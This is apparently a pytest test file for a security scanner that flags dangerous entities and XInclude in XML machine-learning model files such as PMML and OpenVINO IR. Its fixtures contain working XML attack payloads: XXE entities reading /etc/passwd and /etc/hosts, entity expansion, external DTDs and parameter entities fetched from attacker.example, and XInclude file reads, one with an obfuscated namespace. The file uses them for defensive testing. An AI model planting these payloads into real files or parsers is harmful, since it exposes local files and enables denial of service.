from __future__ import annotations

from collections.abc import Callable
from pathlib import Path

import pytest

from aispm.checks.modelfiles.xml_models import XmlModelAnalyser, read_prolog
from aispm.engine import scan
from aispm.files.walk import FileRef
from aispm.model import AssetKind, ScanResult, Severity
from aispm.options import ScanOptions

Tree = Callable[[dict[str, str | bytes]], Path]

PMML_BODY = (
    '<PMML version="4.4" xmlns="http://www.dmg.org/PMML-4_4"><Header copyright="x"/>'
    '<DataDictionary numberOfFields="1"><DataField name="x" optype="continuous" dataType="double"/>'
    '</DataDictionary><RegressionModel functionName="regression"/></PMML>'
)
XXE = '<?xml version="1.0"?>\n<!DOCTYPE PMML [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n' + PMML_BODY.replace(
    'copyright="x"', 'copyright="&xxe;"'
)
LAUGHS = '<?xml version="1.0"?><!DOCTYPE PMML [<!ENTITY a "aaaaaaaa"><!ENTITY b "&a;&a;&a;&a;">]>' + PMML_BODY
EXTERNAL_DTD = '<?xml version="1.0"?><!DOCTYPE PMML SYSTEM "http://attacker.example/x.dtd">' + PMML_BODY
PARAMETER = '<?xml version="1.0"?><!DOCTYPE PMML [<!ENTITY % p SYSTEM "http://attacker.example/p"> %p;]>' + PMML_BODY
OPENVINO = (
    '<?xml version="1.0"?><net name="resnet" version="11"><layers><layer id="0" type="Parameter"/></layers></net>'
)


def run(root: Path) -> ScanResult:
    return scan([str(root)], ScanOptions(workers=1, scanners=frozenset({"models"})))


@pytest.mark.parametrize(
    ("relpath", "text", "severity", "needle"),
    [
        ("models/churn.pmml", XXE, Severity.HIGH, "file:///etc/passwd"),
        ("models/churn.xml", XXE, Severity.HIGH, "xxe"),
        ("models/churn.pmml", LAUGHS, Severity.MEDIUM, "entity expansion"),
        ("models/churn.pmml", EXTERNAL_DTD, Severity.HIGH, "http://attacker.example/x.dtd"),
        ("models/churn.pmml", PARAMETER, Severity.HIGH, "http://attacker.example/p"),
        ("ir/model.xml", OPENVINO.replace("<net", '<!DOCTYPE net [<!ENTITY e SYSTEM "/etc/hosts">]><net'),
         Severity.HIGH, "/etc/hosts"),
    ],
)  # fmt: skip
def test_entities_in_xml_models_are_findings(make_tree: Tree, relpath: str, text: str, severity: Severity,
                                              needle: str) -> None:  # fmt: skip
    result = run(make_tree({relpath: text}))
    [finding] = [f for f in result.findings if f.rule_id == "AISPM-MODEL-010"]
    assert finding.severity is severity and needle in finding.message
    assert finding.location.path == relpath
    [asset] = [a for a in result.assets if a.kind is AssetKind.MODEL_FILE]
    assert asset.id == finding.asset_id and asset.properties["security_scan"] == "unsafe-code"


def test_clean_models_are_inventoried_without_findings(make_tree: Tree) -> None:
    root = make_tree({"a.pmml": '<?xml version="1.0"?>' + PMML_BODY, "ir/model.xml": OPENVINO,
                      "haar.xml": '<?xml version="1.0"?><opencv_storage><cascade/></opencv_storage>'})  # fmt: skip
    result = run(root)
    assert [f for f in result.findings if f.rule_id.startswith("AISPM-MODEL")] == []
    formats = {a.name: (a.properties["format"], len(str(a.properties["sha256"]))) for a in result.assets
               if a.kind is AssetKind.MODEL_FILE}  # fmt: skip
    assert formats == {"a.pmml": ("pmml", 64), "ir/model.xml": ("openvino-ir", 64), "haar.xml": ("opencv-xml", 64)}


@pytest.mark.parametrize(
    ("relpath", "text"),
    [
        ("pom.xml", '<?xml version="1.0"?><!DOCTYPE project [<!ENTITY x SYSTEM "file:///etc/passwd">]><project/>'),
        ("docs/pmml.xml", "<html><body>How to write a PMML file: &lt;PMML&gt;</body></html>"),
        ("net.xml", '<net name="lan"><host/></net>'),  # a <net> that is not an OpenVINO model
        ("notes.md", XXE),
    ],
)
def test_decoys(make_tree: Tree, relpath: str, text: str) -> None:
    result = run(make_tree({relpath: text}))
    assert [f for f in result.findings if f.rule_id.startswith("AISPM-MODEL")] == []
    assert [a for a in result.assets if a.kind is AssetKind.MODEL_FILE] == []


@pytest.mark.parametrize("text", ['<?xml version="1.0"?><!DOCTYPE PMML [<!ENTITY', "\x00\x01 not xml at all"])
def test_malformed_pmml_is_reported_not_crashed(make_tree: Tree, text: str) -> None:
    result = run(make_tree({"bad.pmml": text}))
    assert [f.rule_id for f in result.findings] == ["AISPM-MODEL-003"] and result.errors == ()


def test_large_file_is_read_as_a_stream(make_tree: Tree) -> None:
    padding = "<DataField name='x'/>" * 1000
    root = make_tree({"big.pmml": XXE.replace("</DataDictionary>", padding + "</DataDictionary>")})
    result = scan([str(root)], ScanOptions(workers=1, scanners=frozenset({"models"}), max_file_bytes=1024))
    assert [f.rule_id for f in result.findings] == ["AISPM-MODEL-010"]


def test_prolog_parsing_stops_at_the_root() -> None:
    """Only the prolog matters (a DOCTYPE must precede the root), so a body cut short is not parsed."""
    prolog = read_prolog(b'<?xml version="1.0"?><PMML version="4.4"><unclosed>')
    assert prolog.root == "PMML" and prolog.entity is None and prolog.error is None


def test_wants(tmp_path: Path) -> None:
    analyser = XmlModelAnalyser()
    assert analyser.wants(FileRef(str(tmp_path), tmp_path / "m.PMML", "m.PMML", 10))
    assert analyser.wants(FileRef(str(tmp_path), tmp_path / "m.xml", "m.xml", 10))
    assert not analyser.wants(FileRef(str(tmp_path), tmp_path / "m.json", "m.json", 10))


XI = 'xmlns:xi="http://www.w3.org/2001/XInclude"'


@pytest.mark.parametrize(
    "text",
    [
        PMML_BODY.replace("<Header", f'<xi:include {XI} href="file:///etc/passwd" parse="text"/><Header', 1),
        PMML_BODY.replace("<PMML", f"<PMML {XI}", 1).replace("<Header", "<xi:include href='secrets.xml'/><Header", 1),
        PMML_BODY.replace(  # the namespace spelled with character references, as XML parsers read it
            "<Header", '<xi:include xmlns:xi="http&#58;//www.w3.org/2001/X&#x49;nclude" href="secrets.xml"/><Header', 1
        ),
    ],
)
def test_xinclude_in_an_xml_model_is_a_finding(make_tree: Tree, text: str) -> None:
    [finding] = run(make_tree({"models/churn.pmml": text})).findings
    assert finding.rule_id == "AISPM-MODEL-010" and "XInclude" in finding.message
    assert finding.properties["xinclude"] in ("file:///etc/passwd", "secrets.xml")


def test_an_include_element_without_the_xinclude_namespace_is_not_one(make_tree: Tree) -> None:
    text = PMML_BODY.replace("<Header", '<Extension name="include" href="docs.html"/><include href="x"/><Header', 1)
    assert run(make_tree({"models/churn.pmml": text})).findings == ()
